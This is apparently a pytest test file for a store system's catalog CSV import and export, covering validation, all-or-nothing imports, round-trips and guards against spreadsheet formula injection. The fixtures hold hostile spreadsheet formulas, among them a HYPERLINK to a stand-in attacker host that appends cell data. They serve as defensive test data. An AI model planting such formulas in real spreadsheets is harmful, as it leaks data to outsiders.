"""Catalog CSV import/export: validate everything first, apply all or nothing, round-trip exactly."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from hub.cli import main
from hub.inventory import catalog, catalog_csv
from hub.kernel import csvsafe
from hub.store import initialise, open_db

ROOT = Path(__file__).resolve().parents[2]
HEADER = ",".join(catalog_csv.COLUMNS)


def make_hub(path: Path):
    _cfg, db = open_db(path)
    initialise(db, store_id="csv-store", currency="CNY")
    return db


def snapshot(db) -> list[dict]:
    conn = db.read()
    out = []
    for r in conn.execute("SELECT id FROM items ORDER BY sku"):
        item = catalog.get_item(conn, r[0])
        out.append({k: item[k] for k in catalog_csv.COLUMNS})
    return out


def write(path: Path, rows: list[str], *, bom: bool = False, header: str = HEADER) -> Path:
    path.write_text(("\ufeff" if bom else "") + "\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


GOOD = [
    "MILK-1L,Milk 1L,牛奶 1升,Bright,Dairy,each,1250,800,5901234123457,false,,10,20,1030,true",
    'RICE-5KG,"Rice, 5kg",大米 5公斤,,Grocery,each,4990,3500,96385074;0012345678905,false,,0,0,,true',
    "APPLE,Apples,苹果,,Produce,kg,1200,700,2302148000002,true,4131,0,0,,true",
]


def invoke(*args):
    return CliRunner().invoke(main, list(map(str, args)), catch_exceptions=False)


def test_import_creates_items_with_bom_and_audits_once(tmp_path):
    db = make_hub(tmp_path / "hub")
    f = write(tmp_path / "items.csv", GOOD, bom=True)
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 0, res.output
    assert "created 3" in res.output
    items = {i["sku"]: i for i in snapshot(db)}
    assert items["RICE-5KG"]["name_en"] == "Rice, 5kg"
    assert items["RICE-5KG"]["gtins"] == ["00000096385074", "00012345678905"]
    assert items["APPLE"]["unit"] == "kg" and items["APPLE"]["plu"] == "4131" and items["APPLE"]["variable_measure"]
    assert items["MILK-1L"]["unit_weight_g"] == 1030 and items["MILK-1L"]["name_zh"] == "牛奶 1升"
    conn = db.read()
    audits = [json.loads(r[0]) for r in conn.execute("SELECT details FROM audit_log WHERE action='catalog.import'")]
    assert audits == [{"created": 3, "updated": 0, "unchanged": 0, "dry_run": False, "rows": 3}]
    assert conn.execute("SELECT COUNT(*) FROM audit_log WHERE action LIKE 'item.%'").fetchone()[0] == 0
    # Importing the same file again changes nothing.
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert "unchanged 3" in res.output


def test_one_bad_row_applies_nothing_and_reports_every_problem(tmp_path):
    db = make_hub(tmp_path / "hub")
    rows = GOOD + [
        "BAD-1,,,,,each,12.50,0,,false,,0,0,,true",  # row 5: no name, price not whole
        "BAD-2,Thing,,,,box,100,0,5901234123458,maybe,,0,0,,true",  # row 6: unit, bad GTIN, bad bool
        "MILK-1L,Milk again,,,,each,100,0,,false,,0,0,,true",  # row 7: SKU repeated
        "DUP-G,Dup gtin,,,,each,100,0,5901234123457,false,,0,0,,true",  # row 8: GTIN of row 2
        "PLU2,Pears,,,,kg,900,0,,true,4131,0,0,,true",  # row 9: PLU of row 4
    ]
    f = write(tmp_path / "bad.csv", rows)
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 1
    out = res.output
    for needle in (
        "row 5: name_en",
        "row 5: price_minor",
        "row 6: unit",
        "row 6: gtins",
        "row 6: variable_measure",
        "row 7: sku",
        "row 8: gtins",
        "row 9: plu",
        "nothing was imported",
    ):
        assert needle in out, (needle, out)
    assert snapshot(db) == []
    assert db.read().execute("SELECT COUNT(*) FROM audit_log WHERE action='catalog.import'").fetchone()[0] == 0


def test_gtin_owned_by_another_item_in_the_database(tmp_path):
    db = make_hub(tmp_path / "hub")
    with db.write() as conn:
        catalog.create_item(
            conn, {"sku": "OLD", "name_en": "Old", "price_minor": 1, "gtins": ["5901234123457"]}, actor="t"
        )
    f = write(tmp_path / "x.csv", [GOOD[0]])
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 1 and "GTIN 05901234123457 already belongs to OLD (the catalog)" in res.output
    # ...but a file that also moves it away from OLD is fine: ownership is checked after the import.
    f = write(tmp_path / "y.csv", [GOOD[0], "OLD,Old,,,,each,1,0,,false,,0,0,,true"])
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 0, res.output
    assert catalog.find_by_gtin(db.read(), "05901234123457")["sku"] == "MILK-1L"


def test_partial_columns_update_only_those_fields(tmp_path):
    db = make_hub(tmp_path / "hub")
    write(tmp_path / "a.csv", GOOD)
    assert invoke("catalog", "import", tmp_path / "a.csv", "--data-dir", tmp_path / "hub").exit_code == 0
    f = write(tmp_path / "prices.csv", ["MILK-1L,1300", "APPLE,1150"], header="sku,price_minor")
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert "updated 2" in res.output, res.output
    items = {i["sku"]: i for i in snapshot(db)}
    assert items["MILK-1L"]["price_minor"] == 1300 and items["MILK-1L"]["name_zh"] == "牛奶 1升"
    assert items["MILK-1L"]["gtins"] == ["05901234123457"]


def test_dry_run_writes_nothing(tmp_path):
    db = make_hub(tmp_path / "hub")
    f = write(tmp_path / "a.csv", GOOD)
    res = invoke("catalog", "import", f, "--dry-run", "--data-dir", tmp_path / "hub")
    assert res.exit_code == 0 and "would create 3" in res.output
    assert snapshot(db) == []


@pytest.mark.parametrize(
    "content,needle",
    [
        (b"", "the file is empty"),
        (b"sku,name,price_minor\nA,x,1\n", "unknown column(s) name"),
        (b"name_en,price_minor\nx,1\n", "a sku column is required"),
        ("sku,name_en,price_minor\nA,\u725b\u5976,1\n".encode("gbk"), "not UTF-8"),
        (b"sku,name_en,price_minor\nA,x,1,extra\n", "row 2: row: 1 cell(s) more"),
        (b"sku,name_en,price_minor\n", "no rows under the header"),
    ],
)
def test_malformed_files(tmp_path, content, needle):
    make_hub(tmp_path / "hub")
    f = tmp_path / "m.csv"
    f.write_bytes(content)
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 1 and needle in res.output, res.output


def _big_file(path: Path, n: int) -> Path:
    from biip.checksums import gs1_standard_check_digit

    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(catalog_csv.COLUMNS)
    for i in range(n):
        body = f"690{i:09d}"
        gtin = body + str(gs1_standard_check_digit(body))
        kg = i % 7 == 0
        w.writerow(
            [
                f"SKU-{i:05d}",
                f"Item {i}",
                f"商品 {i}",
                f"Brand {i % 40}",
                ["Grocery", "Produce", "Household"][i % 3],
                "kg" if kg else "each",
                100 + i,
                50 + i,
                gtin,
                "true" if kg else "false",
                str(10000 + i) if kg else "",
                i % 5,
                i % 9,
                "" if kg else 100 + i % 900,
                "true" if i % 50 else "false",
            ]
        )
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def test_5000_rows_import_then_export_round_trips_into_an_empty_hub(tmp_path):
    db1 = make_hub(tmp_path / "hub1")
    f = _big_file(tmp_path / "big.csv", 5000)
    t0 = time.perf_counter()
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub1")
    took = time.perf_counter() - t0
    assert res.exit_code == 0, res.output[-2000:]
    assert "created 5000" in res.output
    assert took < 30, took
    out = tmp_path / "export.csv"
    assert invoke("catalog", "export", out, "--data-dir", tmp_path / "hub1").exit_code == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    db2 = make_hub(tmp_path / "hub2")
    res = invoke("catalog", "import", out, "--data-dir", tmp_path / "hub2")
    assert res.exit_code == 0, res.output[-2000:]
    s1, s2 = snapshot(db1), snapshot(db2)
    assert len(s1) == 5000 and s1 == s2
    out2 = tmp_path / "export2.csv"
    invoke("catalog", "export", out2, "--data-dir", tmp_path / "hub2")
    assert out.read_bytes() == out2.read_bytes()


def test_export_import_through_the_installed_command(tmp_path):
    """The console script, as an operator runs it."""
    make_hub(tmp_path / "hub")
    f = write(tmp_path / "a.csv", GOOD)
    exe = str(ROOT / ".venv" / "bin" / "storehub")
    p = subprocess.run(
        [exe, "catalog", "import", str(f), "--data-dir", str(tmp_path / "hub")],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert p.returncode == 0, p.stderr
    p = subprocess.run(
        [exe, "catalog", "export", str(tmp_path / "e.csv"), "--data-dir", str(tmp_path / "hub"), "--no-bom"],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert p.returncode == 0, p.stderr
    rows = list(csv.DictReader(open(tmp_path / "e.csv", encoding="utf-8", newline="")))
    assert [r["sku"] for r in rows] == ["APPLE", "MILK-1L", "RICE-5KG"]
    assert rows[2]["gtins"] == "00000096385074;00012345678905" and rows[0]["variable_measure"] == "true"
    p = subprocess.run(
        [
            exe,
            "catalog",
            "import",
            str(write(tmp_path / "b.csv", ["X,,,,,each,1,0,,,,0,0,,"])),
            "--data-dir",
            str(tmp_path / "hub"),
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert p.returncode == 1 and "row 2: name_en" in p.stderr


# ---------------------------------------------------------------- spreadsheet formula injection
HOSTILE = {  # sku -> (name_en, name_zh, brand, category)
    "=HYPERLINK": ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2+3", "@SUM(1+1)"),
    "Q-PLAIN": ("'quoted but harmless", "''=already quoted twice", "'@mention", "'-minus"),
    "-SKU": ("Normal name", "正常", "Brand", "Grocery"),
}


def test_formula_guard_rule_is_its_own_inverse():
    for v in ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "'=1", "''+1", "'plain", "plain", "", "a=b", "'"]:
        guarded = csvsafe.guard_formula(v)
        assert csvsafe.unguard_formula(guarded) == v
        assert not guarded.startswith(csvsafe.FORMULA_TRIGGERS)
    assert csvsafe.guard_formula("\tcmd") == "'\tcmd" and csvsafe.guard_formula("\r=1") == "'\r=1"
    assert csvsafe.guard_formula("'plain") == "'plain" and csvsafe.unguard_formula("'plain") == "'plain"
    assert csvsafe.guard_cell(-5) == -5 and csvsafe.guard_cell(None) is None and csvsafe.guard_cell("-5") == "'-5"


def test_unstorable_text_is_a_row_error_and_nothing_is_imported(tmp_path):
    """Issue 11, hole 1: a cell with NUL (which the central's PostgreSQL cannot keep) is refused with its row."""
    db = make_hub(tmp_path / "hub")
    text = (
        "\n".join(
            [
                HEADER,
                GOOD[0],
                "BAD-1,Bad\x00name,,,,each,100,50,,false,,0,0,,true",
                "BAD\x002,Other,,,Dairy\x00,each,100,50,,false,,0,0,,true",
                GOOD[2],
            ]
        )
        + "\n"
    )
    plan = catalog_csv.plan_import(db.read(), text)
    assert [(e.row, e.field) for e in plan.errors] == [(3, "name_en"), (4, "category"), (4, "sku")]
    assert all("U+0000" in e.message for e in plan.errors)
    f = tmp_path / "items.csv"
    f.write_text(text, encoding="utf-8")
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code != 0 and "row 3: name_en" in res.output and snapshot(db) == []


def test_export_neutralises_formulas_and_import_round_trips_them(tmp_path):
    db1 = make_hub(tmp_path / "hub1")
    with db1.write() as conn:
        for sku, (en, zh, brand, cat) in HOSTILE.items():
            catalog.create_item(
                conn,
                {"sku": sku, "name_en": en, "name_zh": zh, "brand": brand, "category": cat, "price_minor": 100},
                actor="test",
            )
    out = tmp_path / "export.csv"
    assert invoke("catalog", "export", out, "--data-dir", tmp_path / "hub1", "--no-bom").exit_code == 0
    rows = list(csv.reader(open(out, encoding="utf-8", newline="")))
    header = rows[0]
    text_idx = [header.index(c) for c in catalog_csv.TEXT_COLUMNS]
    for row in rows[1:]:
        for i in text_idx:
            assert not row[i].startswith(("=", "+", "-", "@", "\t", "\r")), (header[i], row[i])
    by_sku = {r[0]: dict(zip(header, r)) for r in rows[1:]}
    assert by_sku["'=HYPERLINK"]["name_en"].startswith("'=HYPERLINK(")
    assert by_sku["'=HYPERLINK"]["name_zh"] == "'+1+1" and by_sku["'=HYPERLINK"]["category"] == "'@SUM(1+1)"
    assert by_sku["Q-PLAIN"]["name_en"] == "'quoted but harmless"  # no trigger after the quote: as is
    assert by_sku["Q-PLAIN"]["name_zh"] == "'''=already quoted twice"  # one more quote, removed on import
    assert by_sku["'-SKU"]["price_minor"] == "100"  # numbers are never quoted
    db2 = make_hub(tmp_path / "hub2")
    res = invoke("catalog", "import", out, "--data-dir", tmp_path / "hub2")
    assert res.exit_code == 0, res.output
    assert snapshot(db1) == snapshot(db2)
    got = {i["sku"]: i for i in snapshot(db2)}
    assert got["=HYPERLINK"]["name_en"] == HOSTILE["=HYPERLINK"][0] and got["-SKU"]["name_en"] == "Normal name"
    # A second export is byte-identical: the guard is applied once, never stacked.
    out2 = tmp_path / "export2.csv"
    invoke("catalog", "export", out2, "--data-dir", tmp_path / "hub2", "--no-bom")
    assert out.read_bytes() == out2.read_bytes()


def test_hand_made_file_with_guard_quotes_imports_the_plain_values(tmp_path):
    db = make_hub(tmp_path / "hub")
    f = write(tmp_path / "q.csv", ["'=SKU-1,'+44 tea,'plain quote,'@brand,'-cat,each,100,0,,false,,0,0,,true"])
    res = invoke("catalog", "import", f, "--data-dir", tmp_path / "hub")
    assert res.exit_code == 0, res.output
    item = snapshot(db)[0]
    assert (item["sku"], item["name_en"], item["name_zh"], item["brand"], item["category"]) == (
        "=SKU-1",
        "+44 tea",
        "'plain quote",
        "@brand",
        "-cat",
    )
